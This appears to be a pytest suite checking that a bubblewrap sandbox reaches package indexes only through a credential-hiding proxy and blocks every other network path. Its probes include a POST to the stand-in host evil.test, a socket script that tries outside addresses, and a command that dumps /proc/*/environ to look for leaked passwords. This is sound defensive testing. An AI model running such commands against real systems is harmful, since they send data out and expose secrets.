"""The tools themselves, inside a real sandbox without a network: what the door lets them have."""

import hashlib
import io
import json
import shutil
import sys
import tarfile
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from bot.adapters.bwrap_sandbox import BwrapSandbox
from bot.adapters.none_sandbox import NoneSandbox
from bot.indexes.door import supply
from bot.indexes.machine import MachineIndexes
from tests.bot.indexes.conftest import nothing_of_this_machine, wheel
from validators.building.supply import Door
from validators.sandbox import TOOLS, Completed, Guarantee, Limits, Mount, Phase, Sandbox

pytestmark = pytest.mark.sandbox

OFFLINE: frozenset[Guarantee] = frozenset({"no-network", "no-host-sockets", "clean-environment"})
UV = Path(sys.executable).with_name("uv")
SYSTEM_PYTHON = "/usr/bin/python3"
needs_pip = pytest.mark.skipif(
    not Path("/usr/bin/python3").exists() or shutil.which("pip3", path="/usr/bin") is None,
    reason="this machine has no pip beside its own Python",
)
needs_npm = pytest.mark.skipif(
    shutil.which("npm", path="/usr/local/bin:/usr/bin") is None, reason="npm is not installed"
)


@dataclass
class Room:
    """A sandbox with a door in it."""

    box: Sandbox
    folder: Path

    @contextmanager
    def with_door(
        self, machine: MachineIndexes, require: frozenset[Guarantee] = OFFLINE
    ) -> Iterator[tuple[Callable[..., Completed], Door]]:
        """Yield what runs a command behind the door, all of them in one session."""
        (self.folder / "tree").mkdir(exist_ok=True)
        with supply(machine, self.folder).open() as door:
            mounts = (Mount(UV, f"{TOOLS}/uv"), *door.mounts)
            phase = Phase(
                "setup",
                mounts=mounts,
                environment=door.environment,
                path=(TOOLS,),
                require=require,
            )
            with self.box.open(self.folder / "tree", phase, Limits(timeout_s=60)) as session:
                yield (lambda *argv: session.run((*door.prefix, *argv))), door


@pytest.fixture
def room(tmp_path: Path) -> Room:
    box = BwrapSandbox(tmp_path / "sandbox")
    probe = box.probe()
    if not probe.usable:
        pytest.skip(f"no sandbox here: {probe.why_not}")
    return Room(box, tmp_path)


@pytest.fixture
def python_index(tmp_path: Path, serve: Callable[..., Any]) -> Callable[..., Any]:
    """Start an index with two packages, of which ``first`` needs ``second``."""

    def start(tls: str = "") -> Any:
        pages = {}
        for name, requires in (("first", "second"), ("second", "")):
            content = wheel(tmp_path, name, requires)
            file = f"{name}-1.0-py3-none-any.whl"
            digest = hashlib.sha256(content).hexdigest()
            pages[f"/simple/{name}/"] = (
                f'<a href="/files/{file}#sha256={digest}">{file}</a>'.encode()
            )
            pages[f"/files/{file}"] = content
        return serve(pages, tls=tls)

    return start


def installed(run: Callable[..., Completed], *argv: str) -> str:
    done = run(*argv)
    assert done.outcome == "ok", done.stderr.text
    seen = run("sh", "-c", "ls /workspace/there; env; cat /proc/*/environ /proc/*/cmdline")
    return seen.stdout.text + done.stdout.text + done.stderr.text


UV_INSTALL = ("uv", "pip", "install", "--no-cache", "--target", "/workspace/there", "first")
PIP_INSTALL = (
    *(SYSTEM_PYTHON, "-m", "pip", "install", "--no-cache-dir", "--target", "/workspace/there"),
    "first",
)


@pytest.mark.parametrize("argv", [UV_INSTALL, pytest.param(PIP_INSTALL, marks=needs_pip)])
@pytest.mark.parametrize("tls", ["", "127.0.0.1"])
def test_pip_and_uv_install_from_an_index_with_a_password_they_never_see(
    room: Room, python_index: Callable[..., Any], argv: tuple[str, ...], tls: str
) -> None:
    index = python_index(tls)
    address = index.url.replace("//", "//me:canary@")
    trust = {"SSL_CERT_FILE": str(index.trust)} if tls else {}
    machine = nothing_of_this_machine(room.folder, {"PIP_INDEX_URL": f"{address}/simple", **trust})

    with room.with_door(machine) as (run, door):
        said = installed(run, *argv)

    assert "first.py" in said
    assert "second.py" in said
    assert "canary" not in said
    assert "bWU6Y2FuYXJ5" not in said
    assert {asked[3] for asked in index.asked} == {"Basic bWU6Y2FuYXJ5"}
    assert door.refused() == ()


@pytest.mark.parametrize("argv", [UV_INSTALL, pytest.param(PIP_INSTALL, marks=needs_pip)])
def test_wheels_in_a_folder_are_shown_and_nobody_is_asked(
    room: Room, tmp_path: Path, argv: tuple[str, ...]
) -> None:
    folder = tmp_path / "kept wheels"
    folder.mkdir()
    for name, requires in (("first", "second"), ("second", "")):
        wheel(folder, name, requires)
    # A variable of pip holds several folders, apart by a blank; a file address may hold one.
    where = {"PIP_FIND_LINKS": folder.as_uri(), "PIP_NO_INDEX": "1"}
    machine = nothing_of_this_machine(tmp_path, where)

    with room.with_door(machine) as (run, door):
        said = installed(run, *argv)
        writing = run("sh", "-c", f"echo x > '{folder}/first-1.0-py3-none-any.whl'")

    assert "second.py" in said
    assert writing.outcome == "failed"
    assert door.refused() == ()


@pytest.fixture
def registry(serve: Callable[..., Any]) -> Any:
    """A registry with one package, which has a script that an install might run."""
    package = {"name": "left", "version": "1.0.0", "scripts": {"install": "touch /workspace/ran"}}
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as archive:
        entry = tarfile.TarInfo("package/package.json")
        text = json.dumps(package).encode()
        entry.size = len(text)
        archive.addfile(entry, io.BytesIO(text))
    pages: dict[str, bytes] = {"/npm/left/-/left-1.0.0.tgz": content.getvalue()}
    index = serve(pages)
    sha = hashlib.sha1(content.getvalue(), usedforsecurity=False).hexdigest()
    dist = {"tarball": f"{index.url}/npm/left/-/left-1.0.0.tgz", "shasum": sha}
    versions = {"1.0.0": {**package, "dist": dist}}
    document = {"name": "left", "dist-tags": {"latest": "1.0.0"}, "versions": versions}
    pages["/npm/left"] = json.dumps(document).encode()
    return index


@needs_npm
def test_npm_installs_from_the_registry_it_is_configured_with(
    room: Room, registry: Any, tmp_path: Path
) -> None:
    own = f"registry={registry.url}/npm/\n//127.0.0.1:{registry.port}/npm/:_authToken=canary\n"
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".npmrc").write_text(own)
    machine = nothing_of_this_machine(tmp_path, {})

    with room.with_door(machine) as (run, door):
        words = ("--ignore-scripts", "--no-audit", "--no-fund", "--prefix", "/workspace/there")
        said = installed(run, "npm", "install", *words, "left")
        scripts = run("ls", "/workspace/ran")

    assert "node_modules" in said
    assert "canary" not in said
    assert scripts.outcome == "failed"
    assert {asked[3] for asked in registry.asked} == {"Bearer canary"}
    assert door.refused() == ()


# --- what stays outside --------------------------------------------------------------------------

ASKS = """
import socket, sys
found = []
for family, address in (
    (socket.AF_INET, ("127.0.0.1", int(sys.argv[1]))),
    (socket.AF_INET, ("1.1.1.1", 443)),
    (socket.AF_UNIX, sys.argv[2]),
):
    with socket.socket(family) as one:
        one.settimeout(2)
        try:
            one.connect(address)
            found.append(str(address))
        except OSError:
            pass
try:
    socket.getaddrinfo("index.test", 443)
    found.append("names")
except OSError:
    pass
print(found)
"""


def test_there_is_no_way_beside_the_door_and_no_name_is_looked_up(
    room: Room, python_index: Callable[..., Any]
) -> None:
    index = python_index()
    machine = nothing_of_this_machine(room.folder, {"PIP_INDEX_URL": f"{index.url}/simple"})

    with room.with_door(machine) as (run, door):
        outside = next(mount.source for mount in door.mounts if mount.inside.endswith("gateway"))
        done = run(SYSTEM_PYTHON, "-c", ASKS, str(index.port), str(outside))

    assert done.stdout.text.strip() == "[]", done.stderr.text
    assert index.asked == []


def test_what_a_command_may_not_reach_is_told_with_who_was_asked(
    room: Room, python_index: Callable[..., Any]
) -> None:
    index = python_index()
    machine = nothing_of_this_machine(room.folder, {"PIP_INDEX_URL": f"{index.url}/simple"})

    program = "import urllib.request as r; r.urlopen('https://evil.test/legacy', b'x')"
    with room.with_door(machine) as (run, door):
        done = run(SYSTEM_PYTHON, "-c", program)

    assert "Tunnel connection failed: 403" in done.stderr.text
    assert door.refused() == (
        "; ".join(
            (
                "evil.test: it is no index of this machine",
                "an operator may name it under setup.hosts",
                *machine.unknown,
            )
        ),
    )


def test_a_command_ends_as_it_would_alone_and_its_relay_with_it(room: Room) -> None:
    machine = nothing_of_this_machine(room.folder, {})

    with room.with_door(machine) as (run, _):
        ended = [run("sh", "-c", words) for words in ("exit 7", "kill -9 $$", "true")]
        missing = run("no-such-tool")
        lingering = run("sh", "-c", "echo $HTTPS_PROXY; sleep 600 & exit 0")

    assert [(done.outcome, done.code, done.signal) for done in ended] == [
        ("failed", 7, None),
        ("killed", None, 9),
        ("ok", 0, None),
    ]
    assert (missing.code, missing.stderr.text) == (
        127,
        "no-such-tool cannot be started: No such file or directory\n",
    )
    assert lingering.stdout.text.startswith("http://127.0.0.1:")
    assert max(done.wall_s for done in (*ended, lingering)) < 60


def test_without_walls_the_door_leads_to_the_same_indexes(
    room: Room, python_index: Callable[..., Any]
) -> None:
    index = python_index()
    machine = nothing_of_this_machine(room.folder, {"PIP_INDEX_URL": f"{index.url}/simple"})
    box = replace(room, box=NoneSandbox(room.folder / "none"))
    program = "import sys, urllib.request as r; print(len(r.urlopen(sys.argv[1]).read()))"

    with box.with_door(machine, frozenset()) as (run, door):
        done = run(SYSTEM_PYTHON, "-c", program, f"{index.url}/simple/second/")

    assert int(done.stdout.text) > 0, done.stderr.text
    assert (done.code, door.refused(), len(index.asked)) == (0, (), 1)


def test_every_set_up_has_a_door_of_its_own_and_it_is_shut_at_the_end(
    room: Room, python_index: Callable[..., Any]
) -> None:
    index = python_index()
    machine = nothing_of_this_machine(room.folder, {"PIP_INDEX_URL": f"{index.url}/simple"})
    threads = threading.active_count()

    with room.with_door(machine) as (run, door):
        first = run("cat", door.environment["SSL_CERT_FILE"]).stdout.text
        places = [mount.source for mount in door.mounts if mount.source.name != "relay.py"]
    with room.with_door(machine) as (run, door):
        second = run("cat", door.environment["SSL_CERT_FILE"]).stdout.text

    assert first != second
    assert not any(place.exists() for place in places)
    assert threading.active_count() <= threads


def test_a_bundle_holds_whom_the_machine_trusts(room: Room, tmp_path: Path) -> None:
    corp = tmp_path / "corp.pem"
    corp.write_text("CORP\n")
    machine = replace(nothing_of_this_machine(tmp_path, {}), certificates=(corp, tmp_path / "no"))

    with supply(machine, tmp_path).open() as door:
        place = next(mount.source for mount in door.mounts if mount.inside.endswith("trust.pem"))
        text = place.read_text()

    assert text.startswith("CORP\n")
    assert text.count("BEGIN CERTIFICATE") == 1
    assert "PRIVATE" not in text
